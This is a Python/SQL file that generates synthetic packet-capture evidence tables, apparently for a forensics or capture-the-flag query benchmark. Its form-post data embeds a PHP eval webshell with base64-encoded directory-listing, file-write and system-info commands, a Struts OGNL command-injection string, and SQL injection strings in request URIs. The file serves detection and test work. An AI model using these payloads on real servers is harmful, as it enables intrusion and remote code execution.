"""Evidence tables derived from the driver's tables.

A view is a list of expressions over one table, written so that Spark and DuckDB read them alike.  Views
that need an ordered or exploding step have one form per engine.
"""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from packetloom.operators.ordered import lag, lead, row_number, scan

TABLES = (
    "region nation customer supplier part orders lineitem events documents embeddings pages "
    "benchmark labels conversations"
).split()


TEXT_TABLES = ("documents", "pages")


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    """A driver table.  A text table that comes as fewer pieces than there are cores is spread out first;
    one with more pieces is left as it is."""
    df = spark.read.parquet(f"{sf_dir}/{name}.parquet")
    cores = spark.sparkContext.defaultParallelism
    if name in TEXT_TABLES and df.rdd.getNumPartitions() < cores:
        return df.repartition(cores)
    return df


_DATA = "'10.0.0.'"
SIMPLE: dict[str, tuple[str, dict[str, str], str | None]] = {
    "frames": (
        "events",
        {
            "capture_id": "1",
            "frame_number": "event_id + 1",
            "frame_time": "ts",
            "stream_index": "user_id",
            "transport": "CASE WHEN user_id % 2 = 0 THEN 'tcp' ELSE 'udp' END",
            "protocols": "concat('eth:ip:', CASE WHEN user_id % 2 = 0 THEN 'tcp' ELSE 'udp' END, "
            "CASE WHEN event_type = 'view' THEN ':data' ELSE concat(':', event_type) END)",
            "source": f"CASE WHEN event_id % 2 = 0 THEN concat({_DATA}, user_id) ELSE '192.0.2.1' END",
            "destination": f"CASE WHEN event_id % 2 = 0 THEN '192.0.2.1' ELSE concat({_DATA}, user_id) END",
            "source_port": "CASE WHEN event_id % 2 = 0 THEN 1024 + user_id ELSE 80 END",
            "destination_port": "CASE WHEN event_id % 2 = 0 THEN 80 ELSE 1024 + user_id END",
            "frame_length": "64 + CAST(floor(value) AS INT)",
            "captured_length": "60 + CAST(floor(value) AS INT)",
            "payload_length": "CAST(floor(value) AS INT)",
            "syn": "event_type = 'signup'",
            "ack": "event_id % 3 = 0",
        },
        None,
    ),
    "http_tx": (
        "pages",
        {
            "capture_id": "1",
            "tx_id": "page_id",
            "request_frame": "2 * page_id + 1",
            "response_frame": "CASE WHEN page_id % 11 = 0 THEN NULL ELSE 2 * page_id + 2 END",
            "method": "CASE WHEN page_id % 4 = 0 THEN 'POST' ELSE 'GET' END",
            "path": "concat('/item/', page_id % 7)",
            "uri": "concat('/item/', page_id % 7, '?id=', page_id, '&q=', "
            "CASE page_id % 5 WHEN 0 THEN concat('1%27+OR+1%3D1--', "
            "CASE page_id % 4 WHEN 0 THEN '+%' WHEN 1 THEN '+%zz%2' WHEN 2 THEN '+%2541' ELSE '' END) "
            "WHEN 1 THEN '1+UNION+SELECT+name+FROM+information_schema.tables' "
            "ELSE concat('item', page_id) END)",
            "response_code": "CASE WHEN page_id % 6 = 3 THEN 500 ELSE 200 END",
            "declared_length": "CAST(length(html) AS INT)",
            "extracted_length": "CAST(CASE WHEN page_id % 13 = 0 THEN 0 "
            "WHEN page_id % 17 = 0 THEN length(html) - 5 ELSE length(html) END AS INT)",
            "response_body": "CASE WHEN page_id % 12 = 3 THEN concat(html, '<p>upload success</p>') ELSE html END",
            "request_body": "CASE WHEN page_id % 4 = 0 THEN concat('email=u', page_id, '%40x.test&password=', "
            "md5(CAST(page_id AS STRING)), '&captcha=', page_id % 97) END",
        },
        None,
    ),
    "evidence_text": (
        "documents",
        {
            "doc_id": "doc_id",
            "body": "concat(text, CASE doc_id % 10 "
            "WHEN 0 THEN concat(' flag{', substr(md5(CAST(doc_id AS STRING)), 1, 12), '} ') "
            "WHEN 1 THEN concat(' key:', substr(md5(CAST(doc_id AS STRING)), 1, 16), ' ') "
            "WHEN 2 THEN ' key{color:#0000FF} ' "
            "WHEN 3 THEN concat(' DDCTF{', substr(md5(CAST(doc_id AS STRING)), 1, 12), '} ') "
            "WHEN 4 THEN concat(' Az_', md5(CAST(doc_id AS STRING)), '.Qx ') "
            "WHEN 5 THEN concat(' https://host.test/Aa-', md5(CAST(doc_id AS STRING)), ' ') "
            "ELSE '' END)",
        },
        None,
    ),
    "dns_queries": (
        "events",
        {
            "capture_id": "1",
            "frame_number": "event_id + 1",
            "source": f"concat({_DATA}, user_id % 10)",
            "destination": "'192.0.2.53'",
            "query_name": "CASE WHEN event_type IN ('view', 'click') THEN concat('www.', event_type, '.test') "
            "ELSE concat(md5(concat(user_id % 10, ':', event_id % 40)), '.', event_type, '.example.test') END",
        },
        None,
    ),
    "probes": (
        "events",
        {
            "capture_id": "1",
            "frame_number": "event_id + 1",
            "source": f"concat({_DATA}, user_id)",
            "destination": "'192.0.2.20'",
            "ttl": "CAST(CASE WHEN user_id % 4 = 0 THEN 64 ELSE 32 + event_id % 95 END AS INT)",
            "reply_frame": "CASE WHEN event_id % 3 <> 0 THEN event_id + 1000000001 END",
        },
        None,
    ),
    "hid_reports": (
        "events",
        {
            "capture_id": "1",
            "frame_number": "event_id + 1",
            "device": "user_id",
            "code_a": "CAST(CASE WHEN event_id % 4 = 0 THEN 0 ELSE 4 + event_id % 36 END AS INT)",
            "code_b": "CAST(CASE WHEN event_id % 4 IN (0, 1) THEN 0 ELSE 4 + (event_id * 7) % 36 END AS INT)",
        },
        None,
    ),
    "parts": (
        "documents",
        {
            "capture_id": "1",
            "message_id": "CASE WHEN doc_id % 4 < 2 THEN doc_id - doc_id % 2 ELSE doc_id END",
            "part_id": "doc_id",
            "declared_type": "CASE lang WHEN 'en' THEN 'text/plain' WHEN 'fr' THEN 'image/jpeg' "
            "ELSE 'application/zip' END",
        },
        None,
    ),
    # Documents in the first language yield no artifact.
    "artifacts": (
        "documents",
        {
            "capture_id": "1",
            "message_id": "CASE WHEN doc_id % 4 < 2 THEN doc_id - doc_id % 2 ELSE doc_id END",
            "artifact_id": "doc_id",
            "detected_type": "CASE WHEN n_chars % 3 = 0 THEN 'text/plain' WHEN n_chars % 3 = 1 "
            "THEN 'image/jpeg' ELSE 'application/zip' END",
        },
        "lang <> 'de'",
    ),
    "sessions": (
        "events",
        {"capture_id": "1", "route": "user_id", "request_frame": "event_id + 1"},
        "event_type = 'signup'",
    ),
    "transfers": (
        "events",
        {
            "capture_id": "1",
            "frame_number": "event_id + 1",
            "stream_index": "user_id",
            "direction": "'server-to-client'",
            "setup_frame": "CASE WHEN event_id % 8 = 0 THEN NULL ELSE event_id - event_id % 8 + 1 END",
            "command_frame": "CASE WHEN event_id % 16 = 0 THEN NULL ELSE event_id - event_id % 16 + 1 END",
        },
        "event_type = 'purchase'",
    ),
    # The control channel: every frame a transfer may name as setup or command.
    "control": (
        "events",
        {
            "capture_id": "1",
            "frame_number": "event_id + 1",
            "command": "event_type",
            "argument": "concat('/pub/', user_id, '.bin')",
        },
        None,
    ),
    "encoded_values": (
        "documents",
        {
            "doc_id": "doc_id",
            "value": "CASE doc_id % 3 WHEN 0 THEN hex(hex(text)) WHEN 1 THEN hex(text) ELSE text END",
        },
        None,
    ),
    # Mail dialogue: a user turn issues DATA, an assistant turn completes a message.
    "mail_rows": (
        "conversations",
        {
            "capture_id": "1",
            "stream_index": "conv_id % 20",
            "frame_number": "conv_id * 1000 + turn",
            "starts": "role <> 'assistant' OR conv_id % 6 = 1",
            "completes": "role = 'assistant'",
        },
        None,
    ),
    "urgent": (
        "events",
        {
            "capture_id": "1",
            "frame_number": "event_id + 1",
            "stream_index": "user_id",
            "source": f"concat({_DATA}, user_id)",
            "destination": "'192.0.2.30'",
            "pointer": "CAST(CASE WHEN event_id % 29 = 0 THEN 9 ELSE 32 + (event_id * 13) % 95 END AS INT)",
        },
        None,
    ),
}

FORM_KINDS = [
    (0, 0, "aa", "@eval(base64_decode($_POST[action]));"),
    (0, 1, "action", "JEQ9YmFzZTY0X2RlY29kZSgkX1BPU1RbInoxIl0pOyRGPUBvcGVuZGlyKCREKTt3aGlsZSgkTj1AcmVhZGRpcigkRikpe2VjaG8gJE47fQ=="),
    (0, 2, "z1", "L3Zhci93d3cvaHRtbC8="),
    (1, 0, "aa", "@eval(base64_decode($_POST[action]));"),
    (1, 1, "action", "JGY9YmFzZTY0X2RlY29kZSgkX1BPU1RbInoxIl0pOyRjPSRfUE9TVFsiejIiXTtAZndyaXRlKGZvcGVuKCRmLCJ3IiksJGMpOw=="),
    (1, 2, "z1", "RDovd2FtcDY0L3d3dy91cGxvYWQvNjY2Ni5qcGc="),
    (1, 3, "z2", "48656c6c6f21"),
    (2, 0, "aa", "@eval(base64_decode($_POST[action]));"),
    (2, 1, "action", "ZWNobyBwaHBfdW5hbWUoKTtlY2hvIGdldF9jdXJyZW50X3VzZXIoKTs="),
    (3, 0, "email", "a@x.test"),
    (3, 1, "password", "hunter2hunter2"),
    (3, 2, "captcha", "7"),
    (4, 0, 'redirect:%{#context["x"],(new java.lang.ProcessBuilder(new java.lang.String[]{"id"})).start()}', ""),
    (5, 0, "aa", "@eval(base64_decode($_POST[action]));"),
]

_FORM_COLS = {
    "capture_id": "1",
    "tx_id": "page_id",
    "request_frame": "2 * page_id + 1",
    "response_frame": "CASE WHEN page_id % 11 = 0 THEN NULL ELSE 2 * page_id + 2 END",
    "method": "'POST'",
    "uri": "concat('/upload/', page_id % 3, '.php')",
}

PIECE = 40
OVERLAP = 8
_ASCII = "[^\\x01-\\x7F]"


def _messages(spark: SparkSession, sf_dir: str) -> DataFrame:
    turns = table(spark, sf_dir, "conversations").withColumn("capture_id", F.lit(1))
    ordered = scan(
        turns,
        ["conv_id"],
        "turn",
        {
            "before_role": lag(F.col("role")),
            "before_turn": lag(F.col("turn")),
            "after_role": lead(F.col("role")),
            "after_turn": lead(F.col("turn")),
        },
    )
    frame = F.col("conv_id") * 1000
    kind = F.when(F.col("role") == "user", "request").when(F.col("role") == "assistant", "response").otherwise("other")
    return ordered.select(
        "capture_id",
        F.col("conv_id").alias("stream_index"),
        (frame + F.col("turn")).alias("frame_number"),
        kind.alias("kind"),
        F.when(
            (F.col("role") == "assistant") & (F.col("before_role") == "user") & (F.col("conv_id") % 7 != 0),
            frame + F.col("before_turn"),
        ).alias("request_in_frame"),
        F.when(
            (F.col("role") == "user") & (F.col("after_role") == "assistant") & (F.col("conv_id") % 5 != 0),
            frame + F.col("after_turn"),
        ).alias("response_in_frame"),
        F.length("text").cast("int").alias("content_length"),
        "text",
    ).where("NOT (kind = 'request' AND stream_index % 9 = 0)")


_MESSAGES_SQL = """SELECT * FROM (
  SELECT 1 AS capture_id, conv_id AS stream_index, conv_id * 1000 + turn AS frame_number,
    CASE role WHEN 'user' THEN 'request' WHEN 'assistant' THEN 'response' ELSE 'other' END AS kind,
    CASE WHEN role = 'assistant' AND lag(role) OVER w = 'user' AND conv_id % 7 <> 0
      THEN conv_id * 1000 + lag(turn) OVER w END AS request_in_frame,
    CASE WHEN role = 'user' AND lead(role) OVER w = 'assistant' AND conv_id % 5 <> 0
      THEN conv_id * 1000 + lead(turn) OVER w END AS response_in_frame,
    CAST(length(text) AS INT) AS content_length, text
  FROM conversations WINDOW w AS (PARTITION BY conv_id ORDER BY turn)
) m WHERE NOT (kind = 'request' AND stream_index % 9 = 0)"""


def _records(spark: SparkSession, sf_dir: str) -> DataFrame:
    turns = table(spark, sf_dir, "conversations")
    ordered = scan(turns, ["conv_id"], "turn", {"before": lag(F.col("text"))})
    return ordered.select(
        F.lit(1).alias("capture_id"),
        F.col("conv_id").alias("dialogue_id"),
        (F.col("conv_id") * 1000 + F.col("turn")).alias("record_id"),
        F.when(F.col("role") == "user", "client").otherwise("server").alias("side"),
        F.when(F.col("role") == "system", "prompt:system").otherwise("line").alias("label"),
        F.when((F.col("role") == "assistant") & ((F.col("conv_id") + F.col("turn")) % 5 == 0), F.col("before"))
        .otherwise(F.col("text"))
        .alias("body"),
    )


_RECORDS_SQL = """SELECT 1 AS capture_id, conv_id AS dialogue_id, conv_id * 1000 + turn AS record_id,
  CASE role WHEN 'user' THEN 'client' ELSE 'server' END AS side,
  CASE role WHEN 'system' THEN 'prompt:system' ELSE 'line' END AS label,
  CASE WHEN role = 'assistant' AND (conv_id + turn) % 5 = 0
    THEN lag(text) OVER (PARTITION BY conv_id ORDER BY turn) ELSE text END AS body
FROM conversations"""


def _segments(spark: SparkSession, sf_dir: str) -> DataFrame:
    """48-character segments every 40 characters of each whole text, folded to single-byte characters.

    Some segments are lost, some are sent again, some come again with an altered first byte.
    """
    # Folded characters are single bytes, so pieces are cut by byte; only builtin code runs for a segment.
    folded = table(spark, sf_dir, "documents").select("doc_id", F.regexp_replace("text", _ASCII, "?").cast("binary").alias("t"))
    numbers = F.expr(f"CASE WHEN octet_length(t) > 0 THEN sequence(0, (octet_length(t) - 1) div {PIECE}) END")
    rows = folded.select("doc_id", "t", F.explode(numbers).alias("i"))
    mix = F.col("doc_id") + F.col("i")
    copies = F.when((mix % 13 == 0) | (mix % 11 == 0), F.array(F.lit(0), F.lit(1))).otherwise(F.array(F.lit(0)))
    sent = rows.where(mix % 17 != 0).select("*", F.explode(copies).alias("copy"))
    altered = (F.col("copy") == 1) & (mix % 13 == 0)
    rest = F.expr(f"substring(t, CAST(i AS INT) * {PIECE} + 2, {PIECE + OVERLAP - 1})")
    return sent.select(
        F.lit(1).alias("capture_id"),
        F.col("doc_id").alias("stream_index"),
        F.lit("a>b").alias("direction"),
        (F.col("i") * 2 + F.col("copy")).cast("long").alias("frame_number"),
        (F.col("i") * PIECE).cast("long").alias("seq"),
        F.when(altered, F.concat(F.lit(b"#"), rest)).otherwise(F.expr(f"substring(t, CAST(i AS INT) * {PIECE} + 1, {PIECE + OVERLAP})")).alias("payload"),
    )


_SEGMENTS_SQL = f"""SELECT 1 AS capture_id, doc_id AS stream_index, 'a>b' AS direction,
  CAST(i * 2 + copy AS BIGINT) AS frame_number, CAST(i * {PIECE} AS BIGINT) AS seq,
  CASE WHEN copy = 1 AND (doc_id + i) % 13 = 0
    THEN concat('#', substr(t, i * {PIECE} + 2, {PIECE + OVERLAP - 1}))
    ELSE substr(t, i * {PIECE} + 1, {PIECE + OVERLAP}) END AS payload
FROM (SELECT doc_id, i, t, unnest([0, 1]) AS copy FROM (
  SELECT doc_id, t, unnest(range(0, (length(t) + {PIECE - 1}) // {PIECE})) AS i
  FROM (SELECT doc_id, regexp_replace(text, '{_ASCII}', '?', 'g') AS t FROM documents)))
WHERE (doc_id + i) % 17 <> 0 AND (copy = 0 OR (doc_id + i) % 13 = 0 OR (doc_id + i) % 11 = 0)"""


def _seq_packets(spark: SparkSession, sf_dir: str) -> DataFrame:
    """16-bit sequence starting near the wrap, with lost packets, copies and altered copies."""
    ranked = scan(table(spark, sf_dir, "events"), ["user_id"], "event_id", {"rn": row_number()})
    part = F.col("rn") % 10
    sent = ranked.where(part != 3).select(
        "*", F.explode(F.when(part.isin(5, 7), F.array(F.lit(0), F.lit(1))).otherwise(F.array(F.lit(0)))).alias("copy")
    )
    return sent.select(
        F.lit(1).alias("capture_id"),
        F.col("user_id").alias("stream_index"),
        (F.col("event_id") * 2 + F.col("copy")).alias("frame_number"),
        ((F.lit(65500) + F.col("rn")) % 65536).cast("int").alias("seq"),
        F.col("rn").alias("true_seq"),
        F.when((F.col("copy") == 1) & (part == 7), "altered")
        .otherwise(F.md5(F.col("event_id").cast("string")))
        .alias("payload"),
    )


_SEQ_SQL = """SELECT 1 AS capture_id, user_id AS stream_index, 2 * event_id + copy AS frame_number,
  CAST((65500 + rn) % 65536 AS INT) AS seq, rn AS true_seq,
  CASE WHEN copy = 1 AND rn % 10 = 7 THEN 'altered' ELSE md5(CAST(event_id AS VARCHAR)) END AS payload
FROM (SELECT *, unnest([0, 1]) AS copy FROM (SELECT user_id, event_id,
    row_number() OVER (PARTITION BY user_id ORDER BY event_id) AS rn FROM events))
WHERE rn % 10 <> 3 AND (copy = 0 OR rn % 10 IN (5, 7))"""


def _form_posts(spark: SparkSession, sf_dir: str) -> DataFrame:
    kinds = F.array(
        *[
            F.struct(F.lit(k).alias("k"), F.lit(o).alias("ordinal"), F.lit(n).alias("name"), F.lit(v).alias("value"))
            for k, o, n, v in FORM_KINDS
        ]
    )
    mine = F.filter(kinds, lambda f: f["k"] == F.col("page_id") % 6)
    cols = [F.expr(e).alias(n) for n, e in _FORM_COLS.items()]
    return (
        table(spark, sf_dir, "pages")
        .select(*cols, F.explode(mine).alias("f"))
        .select(*_FORM_COLS, "f.ordinal", "f.name", "f.value")
    )


def _quote(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


_FORM_SQL = (
    "SELECT "
    + ", ".join(f"{e} AS {n}" for n, e in _FORM_COLS.items())
    + ", f.ordinal, f.name, f.value FROM pages JOIN (VALUES "
    + ", ".join(f"({k}, {o}, {_quote(n)}, {_quote(v)})" for k, o, n, v in FORM_KINDS)
    + ") AS f(k, ordinal, name, value) ON page_id % 6 = f.k"
)

SPECIAL: dict[str, tuple[Callable[[SparkSession, str], DataFrame], str]] = {
    "messages": (_messages, _MESSAGES_SQL),
    "records": (_records, _RECORDS_SQL),
    "segments": (_segments, _SEGMENTS_SQL),
    "seq_packets": (_seq_packets, _SEQ_SQL),
    "form_posts": (_form_posts, _FORM_SQL),
}


def view(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    if name in SPECIAL:
        return SPECIAL[name][0](spark, sf_dir)
    source, columns, where = SIMPLE[name]
    df = table(spark, sf_dir, source)
    if where:
        df = df.where(where)
    return df.selectExpr(*[f"{expr} AS {col}" for col, expr in columns.items()])


def view_sql(name: str) -> str:
    if name in SPECIAL:
        return SPECIAL[name][1]
    source, columns, where = SIMPLE[name]
    text = "SELECT " + ", ".join(f"{expr} AS {col}" for col, expr in columns.items()) + f" FROM {source}"
    return text + (f" WHERE {where}" if where else "")


def with_views(names: str, body: str) -> str:
    """Oracle text: the named views as common table expressions, then ``body``.

    ``body`` is a SELECT, or more expressions starting with a comma.
    """
    ctes = ", ".join(f"{name} AS ({view_sql(name)})" for name in names.split())
    return f"WITH RECURSIVE {ctes} {body}"
